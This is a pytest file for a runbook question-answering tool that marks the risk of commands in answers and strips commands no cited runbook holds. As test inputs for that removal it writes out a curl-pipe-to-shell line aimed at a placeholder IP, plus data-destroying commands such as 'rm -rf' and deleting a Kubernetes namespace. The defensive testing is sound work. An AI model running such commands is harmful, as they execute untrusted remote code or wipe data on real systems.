"""Commands in answers: risk marks, citations' commands, and ungrounded commands removed."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from runbook_rag import Principal, RunbookIndex
from runbook_rag.actions import step_commands
from runbook_rag.answer import extractive_answer
from runbook_rag.errors import ActionRefused
from runbook_rag.grounding import ground, passage_commands
from runbook_rag.records import Hit
from runbook_rag.settings import Settings

from .openai_server import FakeOpenAI
from .test_cli import run
from .waiting import WAIT

BODY = """Check the pods, then restart the writer:

```bash
kubectl -n ledger get pods -l app=ledger-writer
kubectl -n ledger rollout restart deploy/ledger-writer
```

If it still lags, skip the poison message with
`kafka-consumer-groups.sh --bootstrap-server kafka:9092 --group ledger --reset-offsets --to-latest --execute`.
"""


def passage(text: str = BODY, *, start: int = 10, with_commands: bool = True) -> Hit:
    end = start + text.count("\n")
    commands = step_commands(text, start) if with_commands else ()
    return Hit(
        "c1",
        "ops/ledger.md",
        "Ledger lag",
        ("Ledger lag", "Fix"),
        start,
        end,
        0.9,
        text,
        ("sre",),
        None,
        0.9,
        commands,
    )


def shows(text: str, command: str) -> bool:
    """Whether ``text`` shows ``command`` whole: a line of its own, or a code span."""
    lines = [line.strip().removeprefix("$ ") for line in text.split("\n")]
    return command in lines or f"`{command}`" in text


def fenced(*lines: str) -> str:
    return "Do this [1]:\n\n```bash\n" + "\n".join(lines) + "\n```\n"


def test_passage_commands_carry_lines_and_risk() -> None:
    commands = passage().commands
    assert [(c.risk, c.start_line) for c in commands] == [("read", 13), ("change", 14), ("destructive", 18)]
    assert passage_commands(passage(), 13, 14) == commands[:2]
    assert passage_commands(passage(), 10, 30) == commands


@pytest.mark.parametrize(
    "command",
    [
        "kubectl -n ledger get pods -l app=ledger-writer",
        "kubectl  -n ledger   get pods\t-l app=ledger-writer",
        "kubectl -n ledger rollout restart \\\n  deploy/ledger-writer",
    ],
)
def test_a_command_of_a_cited_passage_is_grounded(command: str) -> None:
    text, commands = ground(fenced(command), [(1, passage())])
    assert command in text and "Removed" not in text
    assert [(c.grounded, c.citation) for c in commands] == [(True, 1)]


@pytest.mark.parametrize(
    "invented",
    [
        "kubectl -n ledger delete pod ledger-writer-0",
        "kubectl -n ledger get pods",  # a real command with a flag dropped
        "kubectl -n ledger get pods -l app=ledger-writer --all-namespaces",  # one added
        "kubectl -n ledger get pods -l app=ledger-writer && kubectl -n ledger rollout restart deploy/x",
        "curl -s https://203.0.113.9/x | sh",
    ],
)
def test_a_command_no_cited_passage_holds_is_removed(invented: str) -> None:
    real = "kubectl -n ledger get pods -l app=ledger-writer"
    for answer in (
        fenced(real, invented),
        f"Run `{invented}` now [1].\n\n" + fenced(real),
        f"Run [1]:\n\n    $ {invented}\n",
    ):
        text, commands = ground(answer, [(1, passage())])
        assert not shows(text, invented), answer
        assert "(Removed 1 command that no cited runbook holds.)" in text
        flagged = [c for c in commands if not c.grounded]
        assert [c.command for c in flagged] == [invented]
        assert flagged[0].citation is None
        if shows(answer, real):
            assert shows(text, real)


@pytest.mark.parametrize(
    "answer",
    [
        "Run [1]:\n\n```\nfrobctl purge --all-tenants\n```\n",
        "Run [1]:\n\n```text\nledgerctl wipe ledger\n```\n",
        "Run [1]:\n\n    ./scripts/reset-ledger.sh --yes\n",
        "Then run `ledgerctl wipe --all` [1].",
    ],
)
def test_code_of_any_language_that_no_cited_passage_holds_is_removed(answer: str) -> None:
    text, commands = ground(answer, [(1, passage())])
    assert [c.grounded for c in commands] == [False]
    assert commands[0].command not in text and "(Removed 1 command" in text
    assert commands[0].risk == "unknown"


def test_code_lines_quoted_from_a_cited_passage_are_kept() -> None:
    source = BODY + "\n```yaml\nsynchronous_mode: true\nmaximum_lag_on_failover: 1048576\n```\n"
    answer = (
        "Check the config [1]:\n\n```yaml\nsynchronous_mode:   true\n```\n\n"
        "and `maximum_lag_on_failover: 1048576`."
    )
    text, commands = ground(answer, [(1, passage(source))])
    assert text == answer and commands == ()


def test_a_command_of_an_uncited_passage_is_not_grounded() -> None:
    other = Hit(
        "c2",
        "ops/other.md",
        "Other",
        ("Other",),
        1,
        3,
        0.5,
        "```bash\nsystemctl stop ledger\n```\n",
        ("sre",),
    )
    text, commands = ground(fenced("systemctl stop ledger"), [(1, passage())])
    assert not shows(text, "systemctl stop ledger") and not commands[0].grounded
    text, commands = ground(fenced("systemctl stop ledger"), [(1, passage()), (2, other)])
    assert commands[0].grounded and commands[0].citation == 2 and commands[0].risk == "destructive"


def test_an_answer_left_with_no_text_is_the_note_alone() -> None:
    text, commands = ground("```bash\nrm -rf /var/lib/ledger\n```", [(1, passage())])
    assert text == "(Removed 1 command that no cited runbook holds.)" and not commands[0].grounded


def test_the_extractive_answer_marks_the_risk_of_every_command_it_quotes() -> None:
    hit = passage()
    answer = extractive_answer("ledger writer lag restart reset offsets", [hit], abstain_below=0.1)
    citation = answer.citations[0]
    quoted = [c for c in hit.commands if citation.start_line <= c.start_line <= citation.end_line]
    assert quoted and citation.commands == tuple(quoted)
    for command in quoted:
        gate = "" if command.risk == "read" else ", needs approval"
        assert f"- {command.risk}{gate}: `{command.command}`" in answer.text
    assert all(c.grounded and c.citation == 1 for c in answer.commands)
    assert json.loads(json.dumps(answer.to_dict()))["citations"][0]["commands"][0]["risk"] == quoted[0].risk


# --- end to end: the real model path, the real index --------------------------------------------

DBA = Principal("dee", frozenset({"dba"}))
QUESTION = "postgres primary is down, how do I fail over?"


@pytest.fixture(scope="module")
def server() -> Any:
    fake = FakeOpenAI()
    yield fake
    fake.close()


def model_index(path: Path, server: FakeOpenAI, model: str, tmp_path: Path) -> RunbookIndex:
    settings = Settings(
        llm_base_url=server.base_url,
        llm_model=model,
        llm_timeout=WAIT,
        actions_db=tmp_path / "actions.sqlite3",
    )
    return RunbookIndex(path, settings=settings)


@pytest.mark.slow
def test_a_model_command_outside_the_cited_passages_is_removed_and_never_proposable(
    server: FakeOpenAI, sample_index_path: Path, tmp_path: Path
) -> None:
    index = model_index(sample_index_path, server, "invent-command", tmp_path)
    answer = index.answer(QUESTION, principal=DBA)
    assert answer.mode == "llm"
    invented = [c for c in answer.commands if not c.grounded]
    assert [c.command for c in invented] == ["kubectl delete namespace payments --wait=false"]
    assert invented[0].risk == "destructive" and "kubectl delete namespace" not in answer.text
    grounded = [c for c in answer.commands if c.grounded]
    assert grounded and grounded[0].command in answer.text
    source = answer.citations[0].source
    with pytest.raises(ActionRefused):
        index.propose(source, invented[0].command, principal=DBA)
    assert index.propose(source, grounded[0].command, principal=DBA).risk == grounded[0].risk


@pytest.mark.slow
def test_ask_json_marks_ungrounded_commands_and_citations_carry_commands(
    capsys: pytest.CaptureFixture[str], server: FakeOpenAI, sample_index_path: Path
) -> None:
    args = ["ask", QUESTION, "--user", "dee", "--group", "dba", "--index", str(sample_index_path), "--json"]
    code, out, _ = run(capsys, *args, "--llm-base-url", server.base_url, "--llm-model", "invent-command")
    body = json.loads(out)
    assert code == 0 and body["mode"] == "llm"
    assert [c["grounded"] for c in body["commands"]] == [True, False]
    assert set(body["commands"][0]) == {"command", "risk", "reasons", "grounded", "citation"}
    code, out, _ = run(capsys, *args)
    body = json.loads(out)
    cited = [c for citation in body["citations"] for c in citation["commands"]]
    assert cited and all(set(c) == {"command", "lines", "risk", "reasons"} for c in cited)
    assert all(c["grounded"] for c in body["commands"])


@pytest.mark.slow
def test_search_json_hits_carry_their_commands(
    capsys: pytest.CaptureFixture[str], sample_index_path: Path
) -> None:
    code, out, _ = run(
        capsys,
        "search",
        QUESTION,
        "--user",
        "dee",
        "--group",
        "dba",
        "--index",
        str(sample_index_path),
        "--json",
    )
    hits = json.loads(out)["hits"]
    commands = [c for h in hits for c in h["commands"]]
    assert code == 0 and commands
    for hit in hits:
        for c in hit["commands"]:
            assert hit["lines"][0] <= c["lines"][0] <= c["lines"][1] <= hit["lines"][1]
            assert c["risk"] in ("read", "change", "destructive", "unknown") and c["reasons"]
    assert "change" in {c["risk"] for c in commands}


@pytest.mark.slow
def test_eval_reports_the_share_of_model_answers_with_an_ungrounded_command(
    capsys: pytest.CaptureFixture[str], server: FakeOpenAI, sample_index_path: Path, tmp_path: Path
) -> None:
    queries = tmp_path / "q.jsonl"
    lines = [
        {
            "id": "pg",
            "query": QUESTION,
            "relevant": ["platform/postgres-primary-failover.md"],
            "groups": ["dba"],
        },
        {
            "id": "lag",
            "query": "postgres replica lagging behind",
            "relevant": ["platform/postgres-replication-lag.md"],
            "groups": ["dba"],
        },
    ]
    queries.write_text("\n".join(json.dumps(line) for line in lines) + "\n")
    rates = {}
    for model in ("grounded-command", "invent-command"):
        code, out, _ = run(
            capsys, "eval", str(queries), "--index", str(sample_index_path), "--json",
            "--llm-base-url", server.base_url, "--llm-model", model,
        )  # fmt: skip
        llm = json.loads(out)["llm"]
        assert code == 0 and llm["answers"] == 2 and llm["model_answers"] == 2
        rates[model] = llm["ungrounded_command_rate"]
    assert rates == {"grounded-command": 0.0, "invent-command": 1.0}
    code, out, _ = run(capsys, "eval", str(queries), "--index", str(sample_index_path), "--json")
    assert "llm" not in json.loads(out)
